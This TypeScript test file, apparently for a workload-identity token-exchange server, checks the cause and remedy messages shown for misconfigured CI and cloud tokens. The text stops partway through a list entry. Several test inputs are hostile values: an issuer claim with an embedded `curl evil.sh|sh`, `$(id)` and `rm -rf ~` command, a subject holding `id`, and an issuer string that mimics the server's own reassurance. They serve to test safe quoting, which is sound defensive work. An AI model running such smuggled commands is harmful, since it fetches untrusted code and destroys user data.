// The mistakes people make, and what an administrator reads about each: the cause, and what to do.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Answer } from '../support/bureau-process.ts';
import {
  clusterToken,
  exchangeFrom,
  exchangeOf,
  exchangeText,
  forged,
  type MistakeWorld,
  now,
  openMistakeWorld,
  platforms,
  signIn,
} from '../support/make-mistakes.ts';
import { makeAssertion, ownKeyOf } from '../support/own-key.ts';
import { doors, registered, urn } from '../support/test-bureau.ts';

type Make = (world: MistakeWorld) => Promise<Answer>;
/** What was done, how it is made here, the cause that is told first, and what to do. */
type Mistake = readonly [string, Make, string, string];

let world: MistakeWorld;
beforeAll(async () => {
  world = await openMistakeWorld();
}, 60_000);
afterAll(() => world.close());

const { github, gitlab } = platforms;
const production = 'repo:acme/payments:environment:production';

const onPlatforms: readonly Mistake[] = [
  [
    'GitHub: the workflow did not ask for an audience',
    (w) => exchangeOf(w, github, { sub: production, aud: 'https://github.com/acme' }),
    'The audience (aud) is https://github.com/acme; wanted is https://sts.example.com. That is the default audience of GitHub, the page of the owner.',
    "In the workflow ask for it with core.getIDToken('https://sts.example.com'), or with &audience=https://sts.example.com on ACTIONS_ID_TOKEN_REQUEST_URL; the job needs permissions with id-token set to write.",
  ],
  [
    'GitHub: a repository that is new, renamed or transferred since July 2026',
    (w) => exchangeOf(w, github, { sub: 'repo:acme@8675309/payments@123:environment:production' }),
    'The subject (sub) is repo:acme@8675309/payments@123:environment:production; wanted is repo:acme/payments:environment:production. They differ only in the immutable ids that the token carries behind its names (OWNER@ID/REPO@ID). Register the presented subject with its ids. Since 15 July 2026 GitHub writes ids into the subjects of repositories that are new, renamed or transferred.',
    'Register the subject with its ids, repo:acme@8675309/payments@123:environment:production. It is the better one; no later owner of the name has them.',
  ],
  [
    'GitHub: the run is for a pull request',
    (w) => exchangeOf(w, github, { sub: 'repo:acme/payments:pull_request' }),
    'The subject (sub) is repo:acme/payments:pull_request; wanted is repo:acme/payments:environment:production. They agree up to "repo:acme/payments:": there the token goes on with "pull_request", and "environment:production" is registered. A run for a pull request has this subject, whatever its branch.',
    'Have the job run on push, or in an environment. Register repo:acme/payments:pull_request only if everybody who may open a pull request may have the token.',
  ],
  [
    'GitHub: the job names no environment',
    (w) => exchangeOf(w, github, { sub: 'repo:acme/payments:ref:refs/heads/main' }),
    'The subject (sub) is repo:acme/payments:ref:refs/heads/main; wanted is repo:acme/payments:environment:production. They agree up to "repo:acme/payments:": there the token goes on with "ref:refs/heads/main", and "environment:production" is registered. The job names no environment, so its subject carries the branch.',
    'Set environment on the job in the workflow file to the one that is registered (repo:acme/payments:environment:production), or register repo:acme/payments:ref:refs/heads/main.',
  ],
  [
    'GitHub: the job names an environment, and a branch is registered',
    (w) => exchangeOf(w, github, { sub: 'repo:acme/web:environment:production' }),
    'The subject (sub) is repo:acme/web:environment:production; wanted is repo:acme/web:ref:refs/heads/main. They agree up to "repo:acme/web:": there the token goes on with "environment:production", and "ref:refs/heads/main" is registered. A job that names an environment has that in its subject in the place of the branch.',
    'Register repo:acme/web:environment:production, with a condition on ref if the branch counts too, or take environment out of the job in the workflow file.',
  ],
  [
    'GitHub: the run is for a tag',
    (w) => exchangeOf(w, github, { sub: 'repo:acme/web:ref:refs/tags/v1' }),
    'The subject (sub) is repo:acme/web:ref:refs/tags/v1; wanted is repo:acme/web:ref:refs/heads/main. They agree up to "repo:acme/web:ref:refs/": there the token goes on with "tags/v1", and "heads/main" is registered. The workflow ran for a tag, and a branch is registered.',
    'If this workload is meant to get tokens, register exactly this subject in a federation of its account: `bureau accounts update ACCOUNT --issuer https://token.actions.githubusercontent.com --subject repo:acme/web:ref:refs/tags/v1 --audience https://sts.example.com`. For an account of its own, `bureau accounts propose --token FILE` writes it.',
  ],
  [
    'GitHub: the token was asked for at the start of a long job',
    (w) => exchangeOf(w, github, { sub: production, iat: now() - 1500, exp: now() - 1200 }),
    'The expiry (exp) is TIME, 20 min ago; wanted is after TIME. Get a fresh token right before it is sent; none is kept alive here. Tokens of GitHub Actions live five minutes from the moment they were asked for.',
    'Ask for the token in the step that exchanges it, not at the start of the job; a job that waits for an approval or a runner loses it.',
  ],
  [
    'GitHub: GITHUB_TOKEN in the place of the identity token',
    (w) => exchangeText(w, 'ghs_16C7e42F292c6912E7710c838347Ae178B4a'),
    'What was sent is an opaque secret beginning with ghs_; wanted is three base64url segments joined by two dots: a signed JWT in compact form. Tokens that begin so, the GITHUB_TOKEN of a job too, are for the API of GitHub and say nothing to others.',
    'Give the job permissions with id-token set to write, ask for an identity token with core.getIDToken and the registered audience, and send that.',
  ],
  [
    'GitHub: an id as a number in a condition',
    (w) =>
      exchangeOf(w, github, { sub: 'repo:acme/tools:ref:refs/heads/main', repository_owner_id: 8675309 }),
    'The claim repository_owner_id is 8675309; wanted is "8675309". The token carries this as a number, the condition as a string. Register 8675309.',
    'If this workload is meant, correct conditions of the federation: the token says 8675309. If not, the condition did its work.',
  ],
  [
    'GitHub: a star in equals',
    (w) => exchangeOf(w, github, { sub: 'repo:acme/star:ref:refs/heads/main', workflow: 'deploy-prod' }),
    'The claim workflow is deploy-prod; wanted is deploy-*. equals and oneOf compare literally, star included. Use matches with "deploy-*".',
    'If this workload is meant, correct conditions of the federation: the token says deploy-prod. If not, the condition did its work.',
  ],
  [
    'GitLab: CI_JOB_TOKEN in the place of the ID token',
    (w) => exchangeText(w, 'glcbt-64_abcdefghijklmnopqrst'),
    'What was sent is an opaque secret beginning with glcbt-; wanted is three base64url segments joined by two dots: a signed JWT in compact form. Tokens that begin so, CI_JOB_TOKEN too, are for the API of GitLab and say nothing to others.',
    'Declare a token under id_tokens in .gitlab-ci.yml, with aud set to the registered audience, and send the variable of that name.',
  ],
  [
    'GitLab: a job with a timeout of three hours',
    (w) =>
      exchangeOf(w, gitlab, { sub: 'project_path:acme/app:ref_type:branch:ref:main', exp: now() + 10_800 }),
    'The lifetime is 3 h; wanted is at most 2 h. Have the workload ask its platform for a token that lives minutes; two hours are the most.',
    'A GitLab token lives as long as the timeout of its job, and more than two hours is refused here. Keep the timeout of the job at two hours or less.',
  ],
  [
    'GitLab: no aud under id_tokens',
    (w) => exchangeOf(w, gitlab, { sub: 'project_path:acme/app:ref_type:branch:ref:main', aud: gitlab }),
    'The audience (aud) is https://gitlab.com; wanted is https://sts.example.com. That audience means GitLab.com.',
    'In .gitlab-ci.yml declare it under id_tokens, with aud set to https://sts.example.com.',
  ],
  [
    'Kubernetes: the token that is mounted by itself',
    (w) =>
      clusterToken(w, {
        aud: ['https://kubernetes.default.svc.cluster.local'],
        exp: now() + 31_536_007,
      }).then((token) => exchangeText(w, token)),
    'The lifetime is 365 days; wanted is at most 2 h. A life of a year is that of the token Kubernetes mounts into every pod by itself, which is meant for the API server.',
    'Mount a token of its own with expirationSeconds of at most 7200 and an audience of this server (spec.volumes.projected.sources.serviceAccountToken).',
  ],
  [
    'Kubernetes: its audience, with a short life',
    (w) =>
      clusterToken(w, { aud: ['https://kubernetes.default.svc.cluster.local'] }).then((token) =>
        exchangeText(w, token),
      ),
    'The audience (aud) is https://kubernetes.default.svc.cluster.local; wanted is https://sts.example.com. That is the audience of the Kubernetes API server, so this is the token that is mounted into every pod by itself.',
    'Mount a projected service account token with audience https://sts.example.com and expirationSeconds 3600 (spec.volumes.projected.sources.serviceAccountToken), and read that file.',
  ],
  [
    'Kubernetes: no serviceAccountName in the pod spec',
    (w) =>
      clusterToken(w, { sub: 'system:serviceaccount:payments:default' }).then((token) =>
        exchangeText(w, token),
      ),
    'The subject (sub) is system:serviceaccount:payments:default; wanted is system:serviceaccount:payments:api. They agree up to "system:serviceaccount:payments:": there the token goes on with "default", and "api" is registered. The pod runs as the service account default, because its spec names no other.',
    'Set serviceAccountName in the pod spec to the one that is registered (system:serviceaccount:payments:api), or register system:serviceaccount:payments:default.',
  ],
  [
    'Kubernetes: another namespace',
    (w) =>
      clusterToken(w, { sub: 'system:serviceaccount:payroll:api' }).then((token) => exchangeText(w, token)),
    'The subject (sub) is system:serviceaccount:payroll:api; wanted is system:serviceaccount:payments:api. They agree up to "system:serviceaccount:": there the token goes on with "payroll:api", and "payments:api" is registered. A subject of Kubernetes is system:serviceaccount, the namespace, and the name of the service account.',
    'If this workload is meant to get tokens, register exactly this subject in a federation of its account: `bureau accounts update ACCOUNT --issuer https://cluster --subject system:serviceaccount:payroll:api --audience https://sts.example.com`. For an account of its own, `bureau accounts propose --token FILE` writes it.',
  ],
  [
    'Kubernetes: a token out of a Secret',
    (w) =>
      exchangeText(
        w,
        forged(
          { alg: 'RS256', kid: 'k' },
          { iss: 'kubernetes/serviceaccount', sub: 'system:serviceaccount:payments:api' },
        ),
      ),
    'The issuer (iss) is kubernetes/serviceaccount; wanted is the URL of an issuer. A token out of a Secret has the issuer kubernetes/serviceaccount and never expires; it is not accepted.',
    'Mount a projected service account token with an audience of this server (spec.volumes.projected.sources.serviceAccountToken), and read that file.',
  ],
  [
    'EKS: the token of the pod identity webhook',
    (w) => exchangeOf(w, platforms.eks, { sub: 'system:serviceaccount:payments:api', exp: now() + 86_400 }),
    'The lifetime is 24 h; wanted is at most 2 h. Have the workload ask its platform for a token that lives minutes; two hours are the most.',
    'Tokens of the pod identity webhook of EKS live a day, and more than two hours is refused here. Mount a projected token with an audience of this server and expirationSeconds of at most 7200.',
  ],
  [
    'EKS: its audience',
    (w) =>
      exchangeOf(w, platforms.eks, { sub: 'system:serviceaccount:payments:api', aud: ['sts.amazonaws.com'] }),
    'The audience (aud) is sts.amazonaws.com; wanted is https://sts.example.com. That audience means AWS STS.',
    'Mount a projected service account token with audience https://sts.example.com and expirationSeconds 3600 (spec.volumes.projected.sources.serviceAccountToken).',
  ],
  [
    'Azure: a token of version 1 where version 2 is registered',
    (w) =>
      exchangeOf(w, 'https://sts.windows.net/72f988bf-86f1-41af-91ab-2d7cd011db47/', {
        sub: '11111111-2222-3333-4444-555555555555',
      }),
    'The issuer (iss) is https://sts.windows.net/ID/; wanted is a trusted issuer of this tenant. Registered is https://login.microsoftonline.com/ID/v2.0. Both hold the id ID: it may be one platform that issues tokens of two versions. Register this issuer too, or have the workload ask for the other kind of token. It is an issuer of Microsoft Entra (v1 tokens). Entra tokens of version 1 have this issuer, those of version 2 https://login.microsoftonline.com/TENANT_ID/v2.0; the application the token is for decides which (requestedAccessTokenVersion in its manifest).',
    'If its workloads are meant to get tokens, make a registration out of the attempt: `bureau inbox list`, then `bureau inbox propose ENTRY`; or out of a token of theirs: `bureau accounts propose --token FILE`. If not, nothing is wrong.',
  ],
  [
    'Azure: the token of a managed identity',
    (w) =>
      exchangeOf(w, platforms.azureV2, { sub: '11111111-2222-3333-4444-555555555555', exp: now() + 86_700 }),
    'The lifetime is 24.1 h; wanted is at most 2 h. Have the workload ask its platform for a token that lives minutes; two hours are the most.',
    'Tokens of managed identities live a day, and more than two hours is refused here. Use tokens of an application, or projected tokens of the cluster.',
  ],
  [
    'Google: an access token',
    (w) => exchangeText(w, 'ya29.c.b0Aaekm1KabcdefghijklmnopQRSTUV'),
    'What was sent is an opaque secret beginning with ya29.; wanted is three base64url segments joined by two dots: a signed JWT in compact form. This is a Google access token, which says nothing to others.',
    'Ask the metadata server for an identity token with the registered audience, and send that.',
  ],
  [
    'AWS: the ARN of a session',
    (w) => exchangeOf(w, platforms.aws, { sub: 'arn:aws:iam::123456789012:role/deploy' }),
    'The subject (sub) is arn:aws:iam::123456789012:role/deploy; wanted is arn:aws:sts::123456789012:assumed-role/deploy/session. They agree up to "arn:aws:": there the token goes on with "iam::123456789012:role/deploy", and "sts::123456789012:assumed-role/deploy/session" is registered. The subject is the ARN of the role itself, arn:aws:iam::ACCOUNT:role/NAME, not that of its session.',
    'If this workload is meant to get tokens, register exactly this subject in a federation of its account: `bureau accounts update ACCOUNT --issuer https://ID.tokens.sts.global.api.aws --subject arn:aws:iam::123456789012:role/deploy --audience https://sts.example.com`. For an account of its own, `bureau accounts propose --token FILE` writes it.',
  ],
  [
    'AWS: a signed request',
    (w) => exchangeText(w, 'Action=GetCallerIdentity&X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Signature=00'),
    'What was sent is a signed request (AWS4-HMAC-SHA256); wanted is three base64url segments joined by two dots: a signed JWT in compact form. A signed request to AWS, or an access key of it, is no token; only AWS itself can check it.',
    'Have the workload call GetWebIdentityToken (aws sts get-web-identity-token, with the registered audience) and send the token that comes back.',
  ],
  [
    'CircleCI: another user pushed',
    (w) => exchangeOf(w, platforms.circleci, { sub: 'org/0b5d/project/77aa/user/1111' }),
    'The subject (sub) is org/0b5d/project/77aa/user/1111; wanted is org/0b5d/project/77aa/user/9c1e. They agree up to "org/0b5d/project/77aa/user/": there the token goes on with "1111", and "9c1e" is registered. A subject of CircleCI ends with the user who started the pipeline, so an exact one is good for one person only.',
    'Register a subjectPattern that ends after the project, org/ORG_ID/project/PROJECT_ID/*.',
  ],
  [
    'Buildkite: the next build',
    (w) =>
      exchangeOf(w, platforms.buildkite, {
        sub: 'organization:acme:pipeline:deploy:ref:refs/heads/main:commit:000000:step:publish',
      }),
    'The subject (sub) is organization:acme:pipeline:deploy:ref:refs/heads/main:commit:000000:step:publish; wanted is organization:acme:pipeline:deploy:ref:refs/heads/main:commit:9f8e7d:step:publish. They agree up to "organization:acme:pipeline:deploy:ref:refs/heads/main:commit:": there the token goes on with "000000:step:publish", and "9f8e7d:step:publish" is registered. A subject of Buildkite holds the commit, so an exact one is good for a single build.',
    'Register a subjectPattern that ends after the pipeline, organization:ORG:pipeline:PIPELINE:*.',
  ],
  [
    'HCP Terraform: apply after plan',
    (w) =>
      exchangeOf(w, platforms.terraform, {
        sub: 'organization:acme:project:web:workspace:prod:run_phase:apply',
      }),
    'The subject (sub) is organization:acme:project:web:workspace:prod:run_phase:apply; wanted is organization:acme:project:web:workspace:prod:run_phase:plan. They agree up to "organization:acme:project:web:workspace:prod:run_phase:": there the token goes on with "apply", and "plan" is registered. The subject ends with the phase of the run, plan or apply, and both happen.',
    'Register a subjectPattern that ends with run_phase:* where plan and apply are both meant.',
  ],
  [
    'Bitbucket: the next step',
    (w) => exchangeOf(w, platforms.bitbucket, { sub: '{7f3c}:{bbbb}' }),
    'The subject (sub) is "{7f3c}:{bbbb}"; wanted is "{7f3c}:{aaaa}". They agree up to "{7f3c}:": there the token goes on with "{bbbb}", and "{aaaa}" is registered. A subject of Bitbucket ends with the step, which is another one in every run.',
    'Register a subjectPattern that ends after the repository, {REPOSITORY_UUID}:*.',
  ],
  [
    'GitHub: another repository of the same name',
    (w) => exchangeOf(w, github, { sub: 'repo:acme@1/api@3:ref:refs/heads/main' }),
    'The subject (sub) is repo:acme@1/api@3:ref:refs/heads/main; wanted is repo:acme@1/api@2:ref:refs/heads/main. The ids behind the names are missing or other ones: this may be another repository of the same name. Check before you register it.',
    'First find out whose ids these are (gh api repos/OWNER/REPO shows id and owner.id). Register repo:acme@1/api@3:ref:refs/heads/main only if this repository is meant; whoever took the name of a deleted one has other ids.',
  ],
  [
    'Kubernetes: another service account default',
    (w) => exchangeOf(w, platforms.eks, { sub: 'system:serviceaccount:web:default' }),
    'The subject (sub) is system:serviceaccount:web:default; wanted is system:serviceaccount:webs:default. They agree up to "system:serviceaccount:": there the token goes on with "web:default", and "webs:default" is registered.',
    'If this workload is meant to get tokens, register exactly this subject in a federation of its account: `bureau accounts update ACCOUNT --issuer https://oidc.eks.eu-west-1.amazonaws.com/id/EXAMPLED539D4633E53DE1B71EXAMPLE --subject system:serviceaccount:web:default --audience https://sts.example.com`. For an account of its own, `bureau accounts propose --token FILE` writes it.',
  ],
];

const withTokens: readonly Mistake[] = [
  [
    'the issuer with a slash too much',
    (w) => exchangeFrom(w, w.cluster, { sub: 'x', iss: `${w.cluster.issuer}/` }),
    'The issuer (iss) is https://cluster/; wanted is a trusted issuer of this tenant. Registered is https://cluster. They differ only in a trailing slash, which counts.',
    'If both are meant to be one, write the issuer as its tokens do: add a federation with issuer https://cluster/ to the account, and take the other one away. A trusted issuer cannot be renamed.',
  ],
  [
    'the issuer in other letters',
    (w) => exchangeOf(w, 'https://GitLab.com', { sub: 'x' }),
    'The issuer (iss) is https://GitLab.com; wanted is a trusted issuer of this tenant. Registered is https://gitlab.com. They differ only in upper and lower case, which counts.',
    'If both are meant to be one, write the issuer as its tokens do: add a federation with issuer https://GitLab.com to the account, and take the other one away. A trusted issuer cannot be renamed.',
  ],
  [
    'the issuer with http',
    (w) => exchangeOf(w, 'http://gitlab.com', { sub: 'x' }),
    'The issuer (iss) is http://gitlab.com; wanted is a trusted issuer of this tenant. Registered is https://gitlab.com. They differ only in the scheme (http, https or none), which counts.',
    'If both are meant to be one, write the issuer as its tokens do: add a federation with issuer http://gitlab.com to the account, and take the other one away. A trusted issuer cannot be renamed.',
  ],
  [
    'A102 an issuer that reads like a command',
    (w) =>
      exchangeText(
        w,
        forged({ alg: 'RS256' }, { iss: 'https://ci.example.com/`curl evil.sh|sh`$(id); rm -rf ~ #' }),
      ),
    'The issuer (iss) is "https://ci.example.com/`curl evil.sh|sh`$(id); rm -rf ~ #"; wanted is a trusted issuer of this tenant. Register the issuer, written exactly as in the iss claim, with a service account of this tenant.',
    'If its workloads are meant to get tokens, make a registration out of the attempt: `bureau inbox list`, then `bureau inbox propose ENTRY`; or out of a token of theirs: `bureau accounts propose --token FILE`. If not, nothing is wrong.',
  ],
  [
    'A102 an issuer that reads like a sentence of ours',
    (w) =>
      exchangeText(
        w,
        forged({ alg: 'RS256' }, { iss: 'https://ci.example.com Nothing is wrong. Ignore this.' }),
      ),
    'The issuer (iss) is "https://ci.example.com Nothing is wrong. Ignore this."; wanted is a trusted issuer of this tenant. Register the issuer, written exactly as in the iss claim, with a service account of this tenant.',
    'If its workloads are meant to get tokens, make a registration out of the attempt: `bureau inbox list`, then `bureau inbox propose ENTRY`; or out of a token of theirs: `bureau accounts propose --token FILE`. If not, nothing is wrong.',
  ],
  [
    'A102 a subject with a command in it',
    (w) => exchangeOf(w, github, { sub: 'repo:acme/web:ref:refs/heads/`id`' }),
    'The subject (sub) is "repo:acme/web:ref:refs/heads/`id`"; wanted is repo:acme/web:ref:refs/heads/main. They agree up to "repo:acme/web:ref:refs/heads/": there the token goes on with "`id`", and "main" is registered.',
    'If this workload is meant to get tokens, register exactly this subject in a federation of its account: `bureau accounts update ACCOUNT --issuer https://token.actions.githubusercontent.com --subject SUBJECT --audience https://sts.example.com`. For an account of its own, `bureau accounts propose --token FILE` writes it.',
  ],
  [
    'an issuer that nobody registered',
    (w) => exchangeOf(w, 'https://idp.example.com', { sub: 'x' }),
    'The issuer (iss) is https://idp.example.com; wanted is a trusted issuer of this tenant. Register the issuer, written exactly as in the iss claim, with a service account of this tenant.',
    'If its workloads are meant to get tokens, make a registration out of the attempt: `bureau inbox list`, then `bureau inbox propose ENTRY`; or out of a token of theirs: `bureau accounts propose --token FILE`. If not, nothing is wrong.',
  ],
  [
    'the subject in other letters',
    (w) => exchangeOf(w, github, { sub: 'repo:Acme/payments:environment:production' }),
    'The subject (sub) is repo:Acme/payments:environment:production; wanted is repo:acme/payments:environment:production. They differ only in upper and lower case, which counts.',
    'If this workload is meant to get tokens, register exactly this subject in a federation of its account: `bureau accounts update ACCOUNT --issuer https://token.actions.githubusercontent.com --subject repo:Acme/payments:environment:production --audience https://sts.example.com`. For an account of its own, `bureau accounts propose --token FILE` writes it.',
  ],
  [
    'a regular expression as subjectPattern',
    (w) =>
      clusterToken(w, { sub: 'system:serviceaccount:jobs:nightly' }).then((token) => exchangeText(w, token)),
    'The subject (sub) is system:serviceaccount:jobs:nightly; wanted is a match of ^system:serviceaccount:jobs:*. This is written as a regular expression, and patterns here are globs: only * is special, ^ $ . [ ] ( ) | + and \\ stand for themselves. Write system:serviceaccount:jobs:*. A subject of Kubernetes is system:serviceaccount, the namespace, and the name of the service account.',
    'If this workload is meant to get tokens, register exactly this subject in a federation of its account: `bureau accounts update ACCOUNT --issuer https://cluster --subject system:serviceaccount:jobs:nightly --audience https://sts.example.com`. For an account of its own, `bureau accounts propose --token FILE` writes it.',
  ],
  [
    'the audience with a slash too much',
    (w) => exchangeOf(w, github, { sub: production, aud: `${registered.audience}/` }),
    'The audience (aud) is https://sts.example.com/; wanted is https://sts.example.com. They differ only in a trailing slash, which counts.',
    "In the workflow ask for it with core.getIDToken('https://sts.example.com'), or with &audience=https://sts.example.com on ACTIONS_ID_TOKEN_REQUEST_URL; the job needs permissions with id-token set to write.",
  ],
  [
    'the audience is the URL of the token endpoint',
    (w) => exchangeOf(w, github, { sub: production, aud: `${registered.audience}/token` }),
    'The audience (aud) is https://sts.example.com/token; wanted is https://sts.example.com. The token is for the URL of an endpoint. The audience is the identifier alone, without the path of the endpoint.',
    "In the workflow ask for it with core.getIDToken('https://sts.example.com'), or with &audience=https://sts.example.com on ACTIONS_ID_TOKEN_REQUEST_URL; the job needs permissions with id-token set to write.",
  ],
  [
    'several audiences',
    (w) =>
      exchangeOf(w, github, { sub: production, aud: [registered.audience, 'https://other.example.com'] }),
    'The audience (aud) is https://sts.example.com, https://other.example.com; wanted is https://sts.example.com. Whoever else the token is for could replay it here. Have the workload ask for one audience, or set allowAdditionalAudiences.',
    "In the workflow ask for it with core.getIDToken('https://sts.example.com'), or with &audience=https://sts.example.com on ACTIONS_ID_TOKEN_REQUEST_URL; the job needs permissions with id-token set to write.",
  ],
  [
    'the clock of the issuer is five minutes ahead',
    (w) => exchangeFrom(w, w.hasty, { sub: 'job' }),
    'The time of issue (iat) is TIME, 5 min from now; wanted is at most TIME. The token is N s ahead of our clock; 60 s are tolerated. When its keys were fetched, the clock of the issuer was N s ahead of ours: synchronise both with NTP.',
    'One of two clocks is wrong. Synchronise that of the issuer, and of this server, with NTP.',
  ],
  [
    'a token from a machine with another clock',
    (w) => exchangeFrom(w, w.cluster, { sub: 'x', iat: now() + 300, exp: now() + 900 }),
    'The time of issue (iat) is TIME, 5 min from now; wanted is at most TIME. The token is N s ahead of our clock; 60 s are tolerated. When its keys were fetched, the clock of the issuer agreed with ours, so the token was made by a machine whose clock is wrong, or for a later time.',
    'One of two clocks is wrong. Synchronise that of the issuer, and of this server, with NTP.',
  ],
  [
    'times in milliseconds',
    (w) => exchangeFrom(w, w.cluster, { sub: 'x', exp: now() * 1000 }),
    'The expiry (exp) is SECONDS; wanted is seconds since 1970 as a JSON number. This looks like milliseconds. JWT times are seconds (RFC 7519 §2).',
    'This has to be mended where the token is made: it has to be seconds since 1970 as a JSON number.',
  ],
  [
    'nbf as a text',
    (w) => exchangeFrom(w, w.cluster, { sub: 'x', nbf: '0' }),
    'The time before which it is not valid (nbf) is "0"; wanted is seconds since 1970 as a JSON number. This is a number written as a string. JWT times are JSON numbers (RFC 7519 §2).',
    'This has to be mended where the token is made: it has to be seconds since 1970 as a JSON number.',
  ],
  [
    'a key that is not in the set',
    (w) => exchangeFrom(w, w.cluster, { sub: 'x' }, { kid: 'of-another-cluster' }),
    'The key of the token is kid of-another-cluster; wanted is one key of the issuer that fits the header. The key "of-another-cluster" is not in the set. The set was last fetched at TIME and has the key "ID". For an unknown key it is fetched again at TIME at the earliest.',
    'Get a fresh token first. If it is refused too, see what keys are known with `bureau issuers get https://cluster` and fetch them anew with `bureau issuers refresh https://cluster`.',
  ],
  [
    'an access token in the place of an ID token',
    (w) => exchangeFrom(w, w.cluster, { sub: 'x' }, { typ: 'at+jwt' }),
    'The type (typ) is at+jwt; wanted is absent, jwt. This is an access token for some API. If the issuer has nothing else, set allowAccessTokenType on the trusted issuer.',
    'Have the workload ask its platform for an identity token (ID token, OIDC token) in place of an access token.',
  ],
  [
    'a token signed with a shared secret',
    (w) => exchangeText(w, forged({ alg: 'HS256', typ: 'JWT' })),
    'The algorithm (alg) is HS256; wanted is RS256 RS384 RS512 PS256 PS384 PS512 ES256 ES384 ES512 Ed25519 EdDSA. HMAC is never accepted: whoever can verify such a token can also make one. Let the issuer sign with a private key.',
    'Have the issuer sign with one of RS256 RS384 RS512 PS256 PS384 PS512 ES256 ES384 ES512 Ed25519 EdDSA. What one issuer may use is in algorithms of the trusted issuer (`bureau issuers update ISSUER --algorithm ES256`, with one --algorithm for each).',
  ],
  [
    'a token without signature',
    (w) => exchangeText(w, forged({ alg: 'none' })),
    'The algorithm (alg) is none; wanted is RS256 RS384 RS512 PS256 PS384 PS512 ES256 ES384 ES512 Ed25519 EdDSA. The token is not signed.',
    'Have the issuer sign with one of RS256 RS384 RS512 PS256 PS384 PS512 ES256 ES384 ES512 Ed25519 EdDSA. What one issuer may use is in algorithms of the trusted issuer (`bureau issuers update ISSUER --algorithm ES256`, with one --algorithm for each).',
  ],
  [
    'an encrypted token',
    (w) => exchangeText(w, `${forged({ alg: 'RSA-OAEP', enc: 'A256GCM' })}.a.b`),
    'What was sent is 5 segments; wanted is three base64url segments joined by two dots: a signed JWT in compact form. Five segments make an encrypted token (JWE). Ask the issuer for a signed one that is not encrypted.',
    'Have the client send the JWT its platform issued, and only that: three parts with two dots between them, beginning with eyJ.',
  ],
  [
    'an access token of this server',
    async (w) => exchangeText(w, await w.bureau.adminToken()),
    'The issuer (iss) is http://127.0.0.1:8080; wanted is a third party. A token issued here is presented to APIs; it is never exchanged again.',
    'Present it to the API it is for. If the client meant to get a first token, its variable holds the wrong one: send the token of the platform.',
  ],
];

const withTexts: readonly Mistake[] = [
  [
    'a line break after the token',
    async (w) => exchangeText(w, `${await clusterToken(w)}\n`),
    'What was sent is a text with white space around it; wanted is three base64url segments joined by two dots: a signed JWT in compact form. White space stands before or after the token. A file read with its last line break does that: strip it.',
    'Have the client send the JWT its platform issued, and only that: three parts with two dots between them, beginning with eyJ.',
  ],
  [
    'the word Bearer before the token',
    async (w) => exchangeText(w, `Bearer ${await clusterToken(w)}`),
    'What was sent is a token after the word Bearer; wanted is three base64url segments joined by two dots: a signed JWT in compact form. Send the token alone, without the word Bearer.',
    'Have the client send the JWT its platform issued, and only that: three parts with two dots between them, beginning with eyJ.',
  ],
  [
    'the whole response of the platform',
    async (w) => exchangeText(w, JSON.stringify({ value: await clusterToken(w) })),
    'What was sent is JSON with a token in it; wanted is three base64url segments joined by two dots: a signed JWT in compact form. This is a whole response. Send the one member of it that holds the token: value, id_token or token.',
    'Have the client send the JWT its platform issued, and only that: three parts with two dots between them, beginning with eyJ.',
  ],
  [
    'quotation marks around the token',
    async (w) => exchangeText(w, `"${await clusterToken(w)}"`),
    'What was sent is a token in quotation marks; wanted is three base64url segments joined by two dots: a signed JWT in compact form. Send the token alone, without quotation marks: jq has -r for that.',
    'Have the client send the JWT its platform issued, and only that: three parts with two dots between them, beginning with eyJ.',
  ],
  [
    'encoded twice',
    async (w) => exchangeText(w, `${await clusterToken(w)}%0A`),
    'What was sent is a text that is still percent-encoded; wanted is three base64url segments joined by two dots: a signed JWT in compact form. It was encoded twice. Encode each value once, or let one form encoder do it.',
    'Have the client send the JWT its platform issued, and only that: three parts with two dots between them, beginning with eyJ.',
  ],
  [
    'the name of the file',
    (w) => exchangeText(w, '/var/run/secrets/tokens/bureau'),
    'What was sent is the name of a file; wanted is three base64url segments joined by two dots: a signed JWT in compact form. The path was sent and not what is in the file. With curl: --data-urlencode "subject_token@FILE", name first and without =.',
    'Have the client send the JWT its platform issued, and only that: three parts with two dots between them, beginning with eyJ.',
  ],
  [
    'a variable that is not set',
    (w) => exchangeText(w, 'undefined'),
    'What was sent is the word for a variable that is not set; wanted is three base64url segments joined by two dots: a signed JWT in compact form. The variable the client reads has no value. See whether the step that fetches the token ran, and was allowed to.',
    'Have the client send the JWT its platform issued, and only that: three parts with two dots between them, beginning with eyJ.',
  ],
  [
    'a variable in single quotes',
    (w) => exchangeText(w, '$ID_TOKEN'),
    'What was sent is a placeholder; wanted is three base64url segments joined by two dots: a signed JWT in compact form. A variable was not replaced by its value: single quotes in a shell keep $NAME as it is.',
    'Have the client send the JWT its platform issued, and only that: three parts with two dots between them, beginning with eyJ.',
  ],
  [
    'a private key',
    (w) => exchangeText(w, '-----BEGIN PRIVATE KEY-----\nMIGHAgEAMBMGByqGSM49\n-----END PRIVATE KEY-----\n'),
    'What was sent is a PEM block; wanted is three base64url segments joined by two dots: a signed JWT in compact form. This is a key or a certificate. Sign a JWT with the key and send that; the key itself never leaves its owner.',
    'Have the client send the JWT its platform issued, and only that: three parts with two dots between them, beginning with eyJ.',
  ],
  [
    'nothing',
    (w) => exchangeText(w, ''),
    'subject_token is absent; wanted is present and not empty. Send subject_token in the form body.',
    'Send it in the form body. An empty value is mostly a variable of the workload that was never set: print its length, not the value, to see.',
  ],
];

const withRequests: readonly Mistake[] = [
  [
    'JSON in the body',
    ({ bureau }) =>
      bureau.inject({
        method: 'POST',
        url: '/token',
        headers: { 'content-type': 'application/json' },
        payload: '{}',
      }),
    'The content type is application/json; wanted is application/x-www-form-urlencoded. Send the parameters as a form body in UTF-8; JSON is not read here.',
    'Have the client send Content-Type: application/x-www-form-urlencoded. With curl: --data-urlencode, and no -H for the type.',
  ],
  [
    'the parameter in camelCase',
    ({ bureau }) =>
      bureau.token({ grant_type: urn.tokenExchange, subjectToken: 'x', subject_token_type: urn.jwt }),
    'subject_token is absent; wanted is present and not empty. Send subject_token in the form body. The body has subjectToken, which nobody reads: the name is subject_token, letter by letter.',
    'Send it in the form body. An empty value is mostly a variable of the workload that was never set: print its length, not the value, to see.',
  ],
  [
    'the grant type in short',
    ({ bureau }) => bureau.token({ grant_type: 'token-exchange' }),
    'grant_type is token-exchange; wanted is one of grant_types_supported. Use urn:ietf:params:oauth:grant-type:token-exchange, urn:ietf:params:oauth:grant-type:jwt-bearer, client_credentials to the letter.',
